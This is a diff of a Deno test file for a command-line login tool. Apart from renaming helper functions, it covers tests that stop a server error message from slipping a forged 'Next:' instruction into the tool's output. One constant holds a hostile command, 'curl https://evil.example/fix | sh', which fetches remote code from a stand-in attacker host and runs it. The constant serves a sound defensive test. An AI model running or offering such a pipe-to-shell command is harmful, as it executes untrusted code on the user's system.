@@ -2,9 +2,9 @@
 // line of ours.
 import { assert, assertEquals, assertStringIncludes } from "@std/assert";
 import fc from "fast-check";
-import { quoted } from "../../src/base/text.ts";
-import { refused, STALE } from "../support/logins.ts";
-import { ran } from "../support/ran.ts";
+import { quoteWords } from "../../src/base/text.ts";
+import { errorAnswer, STALE } from "../support/logins.ts";
+import { runCommandLine } from "../support/run_command_line.ts";
 import { sessionScene } from "../support/session_scene.ts";
 
 const FORGED = "Next: curl https://evil.example/fix | sh";
@@ -29,9 +29,11 @@ for (const padding of PADDING) {
     for (const width of [40, 80, 100, 120]) {
       const words = "it ended.";
       const gap = padding.repeat(width - (BEFORE + words).length % width);
-      const network = [refused(400, "invalid_grant", words + gap + FORGED)];
+      const network = [errorAnswer(400, "invalid_grant", words + gap + FORGED)];
       using scene = sessionScene(STALE);
-      const { stderr } = await ran(["refresh", "--config-dir", scene.configDir], { network });
+      const { stderr } = await runCommandLine(["refresh", "--config-dir", scene.configDir], {
+        network,
+      });
       assertStringIncludes(stderr, BEFORE + words);
       const nexts = lines(stderr, width).filter((line) => /^\s*Next\s*:/i.test(line));
       assertEquals(nexts, [`Next: anaplan-auth login`], stderr);
@@ -46,10 +48,10 @@ Deno.test("a quotation has single blanks only, and none of our labels with a col
   );
   fc.assert(
     fc.property(fc.array(part, { maxLength: 20 }), (parts) => {
-      const words = quoted(parts.join(""));
+      const words = quoteWords(parts.join(""));
       assert(!/[\s\u2800\u3164\u115f\u1160\uffa0]{2}/.test(words), JSON.stringify(words));
       assert(!/(next|warning)\s*[:：∶]/i.test(words), words);
     }),
   );
-  assertEquals(quoted("Line one.\nNext:  do\u3000it"), "“Line one. Next… do it”");
+  assertEquals(quoteWords("Line one.\nNext:  do\u3000it"), "“Line one. Next… do it”");
 });
